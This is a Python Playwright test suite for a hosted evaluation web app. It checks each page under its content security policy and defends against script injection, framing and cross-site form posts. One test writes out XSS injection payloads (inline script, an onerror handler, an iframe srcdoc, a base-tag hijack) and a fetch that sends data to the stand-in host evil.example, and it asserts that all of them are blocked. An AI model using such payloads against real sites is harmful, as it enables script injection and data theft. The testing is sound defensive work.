"""The hosted arrangement in a real browser: every page by TLS under the policy, and what other sites' pages can do."""

from __future__ import annotations

import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, Route, expect

from evaluator.domain.status import ACTIVE
from tests.e2e.conftest import DEMO_TIMEOUT, PROBES
from tests.e2e.test_browser import heading
from tests.e2e.test_signing_in import PASSWORD, sign_in
from tests.hosted import ROOT, Hosted, hosted

EXPERIMENT = """
name: first
dataset: beir
variants: [{name: bm25, retrieve: {bm25: {}}}, {name: short, retrieve: {bm25: {k1: 0.5}}}]
"""
PAGES = {
    "/": "Leaderboard", "/compare": "Compare", "/query": "Query by query", "/history": "History",
    "/experiments": "Experiments", "/datasets": "Datasets", "/datasets?dataset=beir": "beir",
    "/upload": "Upload a dataset", "/workers": "Queue", "/account": "Account", "/people": "People",
}  # fmt: skip
ELSEWHERE = "https://evil.example"


@pytest.fixture(scope="module")
def instance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hosted]:
    """With a finished experiment, so that pages have charts, tables and lists."""
    with hosted(tmp_path_factory.mktemp("hosted"), workers=1) as running:
        running.command("account", "add-admin", "ann", "--password-stdin", given=PASSWORD)
        running.command("dataset", "import", str(ROOT / "data" / "beir"), "--name", "beir")
        key = (Path(running.environment["EVALUATOR_HOME"]) / "command.key").read_text()
        with httpx.Client(
            base_url=running.inside, headers={"authorization": f"Bearer {key}"}, trust_env=False, timeout=60
        ) as commands:
            id_ = commands.post("/api/experiments", json={"yaml": EXPERIMENT}).raise_for_status().json()["id"]
            deadline = time.monotonic() + DEMO_TIMEOUT
            while commands.get(f"/api/experiments/{id_}").json()["status"] in ACTIVE:
                assert time.monotonic() < deadline, "the experiment does not finish"
                time.sleep(0.2)
        yield running


@pytest.fixture
def ann(instance: Hosted, browser: Browser) -> Iterator[BrowserContext]:
    """A window in which ann has signed in; it takes Caddy's own authority, which no browser knows."""
    context = browser.new_context(base_url=instance.address, ignore_https_errors=True)
    page = context.new_page()
    page.goto("/")
    sign_in(page, PASSWORD)
    heading(page, "Leaderboard")
    page.close()
    yield context
    context.close()


def test_every_page_works_under_the_policy(ann: BrowserContext) -> None:
    """Chromium tells each violation on the console; so does Streamlit's frontend what it cannot do."""
    page, said = ann.new_page(), []

    def heard(message: ConsoleMessage) -> None:
        path = message.location.get("url", "").partition("//")[2].partition("/")[2]
        if message.type == "error" and not PROBES.fullmatch(f"/{path}"):
            said.append(message.text)

    page.on("console", heard)
    page.on("pageerror", lambda error: said.append(str(error)))
    for path, title in PAGES.items():
        answer = page.goto(path)
        heading(page, title)
        finished(page)
        assert answer is not None
        assert "unsafe-eval" not in answer.headers["content-security-policy"]
        assert (path, said) == (path, [])
    page.goto("/")
    expect(page.get_by_test_id("stVegaLiteChart").locator("[aria-roledescription=point]")).not_to_have_count(
        0
    )
    page.goto("/query")  # its lists are a component, whose script comes from a blob
    expect(page.get_by_role("listitem").first).to_be_visible()
    expect(page.get_by_text("BidiComponent Error")).to_have_count(0)
    page.goto("/queue/")
    expect(page.get_by_text("Queues", exact=False).first).to_be_visible()
    assert said == []


def test_what_is_slipped_into_a_page_does_not_run(ann: BrowserContext) -> None:
    page = ann.new_page()
    page.goto("/datasets")
    heading(page, "Datasets")
    ran = page.evaluate(
        """async () => {
          const add = (tag, set) => { const made = document.createElement(tag); set(made); document.body.append(made) }
          add("script", made => { made.textContent = "window.ran = 'inline'" })
          add("script", made => { made.src = "https://evil.example/x.js" })
          add("script", made => { made.src = "data:text/javascript,window.ran='data'" })
          add("div", made => { made.innerHTML = "<img src=x onerror=\\"window.ran = 'handler'\\">" })
          add("iframe", made => { made.srcdoc = "<script>parent.ran = 'frame'</script>" })
          add("base", made => { made.href = "https://evil.example/" })
          let sent = true
          try { await fetch("https://evil.example/?stolen") } catch { sent = false }
          await new Promise(done => setTimeout(done, 300))
          return [window.ran ?? null, sent, document.baseURI.includes("evil")]
        }"""
    )
    assert ran == [None, False, False]


def test_other_sites_neither_show_our_pages_nor_act_for_people(ann: BrowserContext, instance: Hosted) -> None:
    def answer(route: Route) -> None:
        forms = f'<form method="post" action="{instance.address}/logout"><button>Win</button></form>'
        frame = f'<iframe src="{instance.address}/datasets"></iframe>'
        route.fulfill(content_type="text/html", body=f"<h1>Elsewhere</h1>{forms}{frame}")

    ann.route(f"{ELSEWHERE}/**", answer)
    page = ann.new_page()
    page.goto(f"{ELSEWHERE}/")
    expect(page.get_by_role("heading", name="Elsewhere")).to_be_visible()
    page.wait_for_load_state("networkidle")
    for frame in page.frames[1:]:
        text = frame.evaluate("document.body?.innerText ?? ''")
        assert not {"Sign in", "Datasets"} & {*text.splitlines()}
    page.get_by_role("button", name="Win").click()
    expect(page.get_by_text("another origin")).to_be_visible()
    page.goto(f"{instance.address}/datasets")
    heading(page, "Datasets")  # still signed in


def finished(page: Page) -> None:
    """Wait until the page's script has ended."""
    expect(page.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", re.compile("notRunning"))


def test_a_small_team_at_once() -> None:
    """`benchmarks.team` in short: people in browsers, programs and experiments; nothing fails. No time is asserted."""
    command = [sys.executable, "-m", "benchmarks.team", "--people", "3", "--programs", "3", "--seconds", "6"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "errors: 0;" in done.stdout
